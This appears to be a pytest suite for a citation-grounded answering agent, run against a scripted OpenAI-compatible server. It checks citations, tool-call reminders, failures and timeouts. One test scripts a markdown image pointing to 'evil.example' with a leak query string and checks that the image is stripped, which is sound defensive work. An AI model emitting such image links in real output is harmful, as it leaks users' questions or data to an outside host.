"""``answer`` against a real local server speaking the OpenAI chat-completions streaming protocol.

The server's replies are scripted; what it records is exactly what a real provider
would have been sent, so these tests check the wire, not our own bookkeeping.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from citeline.agent import ChatMessage, answer, load_prompt
from citeline.corpus import Corpus
from citeline.events import Citation, Done, Event, Start, Token
from citeline.models import resolve_model

ScriptedOpenAIServer = Any  # the conftest fixture's server


APOPTOSIS_URL = "https://reactome.org/content/detail/R-HSA-109581"
REMINDER = load_prompt("citation-request")


async def _collect(question: str, corpus: Corpus, **kwargs: Any) -> list[Event]:
    return [
        event async for event in answer(question, corpus=corpus, model="openai:scripted", **kwargs)
    ]


def _text(events: list[Event]) -> str:
    return "".join(e.text for e in events if isinstance(e, Token))


def _tool_messages(body: dict[str, Any]) -> list[dict[str, Any]]:
    return [m for m in body["messages"] if m["role"] == "tool"]


def _reminders(content: str) -> int:
    """How often a tool message's content carries the reminder, as a string tail or a list part."""
    try:
        value = json.loads(content)
    except ValueError:
        value = content
    if isinstance(value, list):
        return sum(1 for part in value if part == REMINDER)
    return content.count(REMINDER)


def _reminded_calls(bodies: list[dict[str, Any]]) -> set[str]:
    """The tool calls whose results carried the reminder, across these request bodies."""
    return {
        m["tool_call_id"]
        for body in bodies
        for m in _tool_messages(body)
        if _reminders(m["content"])
    }


async def test_the_tool_loop_searches_reads_and_answers_with_a_citation(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [
        {"calls": [("search", {"query": "CDK5 apoptosis"})]},
        {"calls": [("read", {"id": "R-HSA-109581"})]},
        {
            "text": [
                "CDK5 acts in [Apopto",
                f"sis]({APOPTOSIS_URL}).\n\n## Sou",
                f"rces\n- [Apoptosis]({APOPTOSIS_URL})\n",
            ]
        },
    ]
    events = await _collect("Where does CDK5 act?", corpus)

    requests = openai_server.requests()
    assert len(requests) == 3
    assert {t["function"]["name"] for t in requests[0]["tools"]} == {"search", "read"}
    assert "R-HSA-109581" in json.dumps(_tool_messages(requests[1]))
    assert "programmed cell death" in json.dumps(_tool_messages(requests[2]))

    assert isinstance(events[0], Start)
    text = _text(events)
    assert text.strip() == "CDK5 acts in Apoptosis."
    citations = [e for e in events if isinstance(e, Citation)]
    assert citations == [
        Citation(
            n=1,
            display_name="Apoptosis",
            id="R-HSA-109581",
            start=13,
            end=22,
            href=APOPTOSIS_URL,
        )
    ]
    assert text[13:22] == "Apoptosis"
    done = events[-1]
    assert isinstance(done, Done)
    assert (done.state, done.provenance, done.dropped_anchors) == ("answered", "sourced", 0)


async def test_the_reminder_rides_on_exactly_one_result_in_each_user_turn(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [
        {"calls": [("search", {"query": "apoptosis"})]},
        {"calls": [("search", {"query": "caspases"})]},
        {"text": [f"Caspases act in [Apoptosis]({APOPTOSIS_URL})."]},
    ]
    first = await _collect("What do caspases do?", corpus)
    turn_one = openai_server.requests()

    openai_server.script = [
        {"calls": [("search", {"query": "autophagy"})]},
        {"calls": [("read", {"id": "R-HSA-9612973"})]},
        {"text": ["Starvation induces it."]},
    ]
    history = [ChatMessage("user", "What do caspases do?"), ChatMessage("assistant", _text(first))]
    await _collect("And autophagy?", corpus, profile="chat", history=history)
    turn_two = openai_server.requests()[len(turn_one) :]

    for turn in (turn_one, turn_two):
        assert len(_reminded_calls(turn)) == 1
        # The server's own search is the turn's first result, and carries the reminder.
        first_result = _tool_messages(turn[0])[0]
        assert first_result["tool_call_id"] in _reminded_calls(turn)
        for body in turn:
            assert sum(_reminders(m["content"]) for m in _tool_messages(body)) <= 1
    assert _tool_messages(turn_one[1])[1]["tool_call_id"] not in _reminded_calls(turn_one)
    assert turn_two[0]["messages"][-4]["content"] == _text(first)


async def test_the_provenance_tag_never_reaches_the_model(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [
        {"calls": [("search", {"query": "glycolysis"})]},
        {"calls": [("read", {"id": "R-HSA-70171"})]},
        {"text": ["Glycolysis yields ATP ([Glycolysis](cite:R-HSA-70171))."]},
    ]
    events = await _collect("What does glycolysis yield?", corpus)
    assert openai_server.bodies
    for raw in openai_server.bodies:
        assert "provenance" not in raw
        assert '"corpus"' not in raw
    done = events[-1]
    assert isinstance(done, Done) and done.provenance == "sourced"


async def test_a_tool_that_raises_reaches_the_model_as_an_error_and_the_answer_goes_on(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [
        {"calls": [("read", {"id": "no-such-document"})]},
        {"calls": [("search", {"query": "autophagy"})]},
        {"text": ["Autophagy degrades cytoplasm."]},
    ]
    events = await _collect("What is autophagy?", corpus)

    requests = openai_server.requests()
    failed = _tool_messages(requests[1])[1]
    assert (
        "error" in failed["content"]
        and "no document has id 'no-such-document'" in failed["content"]
    )
    assert not _reminders(failed["content"])
    # The reminder rode on the server's own search, the turn's first result.
    assert _reminded_calls(requests) == {_tool_messages(requests[0])[0]["tool_call_id"]}
    done = events[-1]
    assert isinstance(done, Done) and done.state == "answered"


async def test_an_anchor_to_an_href_no_tool_returned_produces_no_citation(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [
        {"calls": [("search", {"query": "apoptosis"})]},
        {
            "text": [
                "See [a made-up page](https://example.org/R-HSA-000000) and ",
                f'<a href="{APOPTOSIS_URL}">the pathway</a>.',
            ]
        },
    ]
    events = await _collect("What is apoptosis?", corpus)
    text = _text(events)
    assert text == "See a made-up page and the pathway."
    citations = [e for e in events if isinstance(e, Citation)]
    assert [(c.id, c.display_name) for c in citations] == [("R-HSA-109581", "Apoptosis")]
    assert text[citations[0].start : citations[0].end] == "the pathway"
    done = events[-1]
    assert isinstance(done, Done) and done.dropped_anchors == 1


async def test_an_image_the_model_writes_is_its_alt_text_and_a_dropped_anchor(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    # Issue 29: a client that shows images would fetch this address, question and all.
    openai_server.script = [
        {"calls": [("search", {"query": "apoptosis"})]},
        {"text": ["Apoptosis ", "![diagram](https://evil.example/p.png?leak=apoptosis)."]},
    ]
    events = await _collect("What is apoptosis?", corpus)
    assert _text(events) == "Apoptosis diagram."
    assert [e for e in events if isinstance(e, Citation)] == []
    done = events[-1]
    assert isinstance(done, Done) and done.dropped_anchors == 1


async def test_a_cite_href_finds_its_source_and_a_source_is_cited_once(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [
        {"calls": [("search", {"query": "apoptosis glycolysis autophagy"})]},
        {
            "text": [
                "[One](https://reactome.org/pathways/R-HSA-109581) and ",
                "[two](cite:R-HSA-109581) and [three](cite:R-HSA-70171).",
                "\n\n## Sources\n- [Glycolysis](cite:R-HSA-70171)\n",
                "- [Autophagy](cite:R-HSA-9612973)",
            ]
        },
    ]
    events = await _collect("Apoptosis and glycolysis?", corpus)
    citations = [e for e in events if isinstance(e, Citation)]
    assert [(c.n, c.id, c.start is None) for c in citations] == [
        (1, "R-HSA-109581", False),
        (2, "R-HSA-70171", False),
        (3, "R-HSA-9612973", True),
    ]
    assert "## Sources" not in _text(events)
    done = events[-1]
    assert isinstance(done, Done) and done.dropped_anchors == 0


async def test_two_concurrent_answers_do_not_see_each_others_messages(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    def respond(body: dict[str, Any]) -> dict[str, Any]:
        question = next(m["content"] for m in body["messages"] if m["role"] == "user")
        if not _tool_messages(body):
            return {"calls": [("search", {"query": question})]}
        return {"text": [f"You asked: {question}"]}

    openai_server.responder = respond
    openai_server.delay = 0.05
    questions = ["What is autophagy?", "What is glycolysis?"]
    results = await asyncio.gather(*(_collect(q, corpus) for q in questions))

    for question, events in zip(questions, results, strict=True):
        assert _text(events) == f"You asked: {question}"
    for body in openai_server.requests():
        asked = [q for q in questions if q in json.dumps(body["messages"])]
        assert len(asked) == 1


async def test_a_provider_failure_flushes_the_held_text_and_ends_failed(
    openai_server: ScriptedOpenAIServer, corpus: Corpus, caplog: pytest.LogCaptureFixture
) -> None:
    openai_server.script = [{"text": ["Partial answer [Apopto"], "error": "upstream overloaded"}]
    events = await _collect("What is apoptosis?", corpus)
    assert isinstance(events[0], Start)
    tokens = [e.text for e in events if isinstance(e, Token)]
    assert "".join(tokens) == "Partial answer [Apopto"
    assert tokens[-1].endswith("[Apopto")
    done = events[-1]
    assert isinstance(done, Done) and done.state == "failed"
    assert done.failure is not None and "upstream overloaded" in done.failure
    assert "answer failed" in caplog.text
    assert "Traceback" not in caplog.text


async def test_a_timeout_flushes_the_held_text_and_ends_failed_as_a_slow_upstream(
    openai_server: ScriptedOpenAIServer, corpus: Corpus, caplog: pytest.LogCaptureFixture
) -> None:
    # The process's first answer imports the provider's library (2.4 s, measured alone at
    # load 10), which no deadline can interrupt: this test times the stall, not the import.
    openai_server.script = [{"text": ["Warm."]}]
    await _collect("What is apoptosis?", corpus)
    openai_server.script = [{"text": ["Partial answer [Apopto"], "stall": 3.0}]
    events = await _collect("What is apoptosis?", corpus, timeout=0.5)
    tokens = [e.text for e in events if isinstance(e, Token)]
    assert "".join(tokens) == "Partial answer [Apopto"
    assert events[-1] == Done(state="failed", seconds=events[-1].seconds)  # type: ignore[union-attr]
    assert events[-1].seconds < 3.0  # type: ignore[union-attr]
    assert "slow upstream" in caplog.text


async def test_cancelling_the_consumer_propagates_and_is_not_reported_as_a_failure(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.delay = 5.0
    seen: list[Event] = []

    async def consume() -> None:
        async for event in answer("What is apoptosis?", corpus=corpus, model="openai:scripted"):
            seen.append(event)

    task = asyncio.create_task(consume())
    while not seen:
        await asyncio.sleep(0.01)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not any(isinstance(e, Done) for e in seen)


def test_the_scripted_model_is_an_openai_compatible_handle(
    openai_server: ScriptedOpenAIServer,
) -> None:
    handle = resolve_model("openai:scripted")
    assert handle.base_url == openai_server.base_url


SPLIT_ANSWER = (
    f'Cells die by <a href="{APOPTOSIS_URL}">apoptosis</a>, and [glucose](cite:R-HSA-70171) '
    "feeds glycolysis; [nothing](https://example.org/unknown) else.\n\n"
    f"## Sources\n- [Apoptosis]({APOPTOSIS_URL})\n- [Autophagy](cite:R-HSA-9612973)\n"
)


def _split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({0, len(text), *(c % (len(text) + 1) for c in cuts)})
    return [text[a:b] for a, b in pairwise(points) if text[a:b]]


def _answer_events(
    server: ScriptedOpenAIServer, corpus: Corpus, fragments: list[str]
) -> list[Event]:
    server.script = [
        {"calls": [("search", {"query": "apoptosis glycolysis autophagy"})]},
        # Paced, so the split reaches the pipeline rather than being coalesced per read.
        {"text": fragments, "gap": 0.002},
    ]
    events = asyncio.run(_collect("How do cells die and eat?", corpus))
    return [replace(e, seconds=0.0) if isinstance(e, Done) else e for e in events]


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(cuts=st.lists(st.integers(min_value=0, max_value=len(SPLIT_ANSWER)), max_size=40))
def test_the_answer_does_not_depend_on_how_the_model_split_its_text(
    openai_server: ScriptedOpenAIServer, corpus: Corpus, cuts: list[int]
) -> None:
    whole = _answer_events(openai_server, corpus, [SPLIT_ANSWER])
    split = _answer_events(openai_server, corpus, _split(SPLIT_ANSWER, cuts))
    assert _text(split) == _text(whole)
    assert [e for e in split if not isinstance(e, Token)] == [
        e for e in whole if not isinstance(e, Token)
    ]
    assert _text(whole) == "Cells die by apoptosis, and glucose feeds glycolysis; nothing else.\n\n"


async def test_every_request_to_the_provider_carries_the_max_tokens_setting(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [
        {"calls": [("search", {"query": "apoptosis"})]},
        {"text": ["Apoptosis is programmed cell death."]},
    ]
    model = resolve_model("openai:scripted", max_tokens=321)
    events = [e async for e in answer("What is apoptosis?", corpus=corpus, model=model)]
    assert isinstance(events[-1], Done)
    requests = openai_server.requests()
    assert len(requests) == 2
    for body in requests:
        # OpenAI's current name for it; pydantic-ai sends max_tokens to servers that want that.
        assert body.get("max_completion_tokens", body.get("max_tokens")) == 321


async def test_without_a_max_tokens_setting_none_is_sent(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [{"text": ["Nothing to look up."]}]
    await _collect("Hello?", corpus)
    body = openai_server.requests()[0]
    assert "max_tokens" not in body and "max_completion_tokens" not in body


async def test_a_reply_with_no_tool_call_stands_on_the_servers_own_search(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [{"text": ["Apoptosis is programmed cell death."]}]
    events = await _collect("What is apoptosis?", corpus)
    first_request = openai_server.requests()[0]
    assert "programmed cell death" in json.dumps(_tool_messages(first_request))
    done = events[-1]
    assert isinstance(done, Done) and (done.state, done.provenance) == ("answered", "sourced")
    citations = [e for e in events if isinstance(e, Citation)]
    assert [(c.id, c.found_by) for c in citations] == [("R-HSA-109581", "server")]


async def test_a_question_the_collection_cannot_answer_ends_nothing_found_without_a_model_call(
    openai_server: ScriptedOpenAIServer, corpus: Corpus, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", openai_server.base_url)
    handle = resolve_model("openai:scripted?tools=none")
    events = [e async for e in answer("Zyzzyva quokka?", corpus=corpus, model=handle)]
    assert openai_server.requests() == []
    assert not [e for e in events if isinstance(e, Token | Citation)]
    done = events[-1]
    assert isinstance(done, Done) and (done.state, done.provenance) == ("nothing_found", "none")


async def test_a_chat_reply_that_stands_on_the_earlier_turns_is_answered(
    openai_server: ScriptedOpenAIServer, corpus: Corpus
) -> None:
    openai_server.script = [{"text": ["In short: cells dismantle themselves."]}]
    history = [
        ChatMessage(role="user", text="What is apoptosis?"),
        ChatMessage(role="assistant", text="Apoptosis is programmed cell death."),
    ]
    events = await _collect("Say that more simply.", corpus, history=history)
    done = events[-1]
    assert isinstance(done, Done) and done.state == "answered"
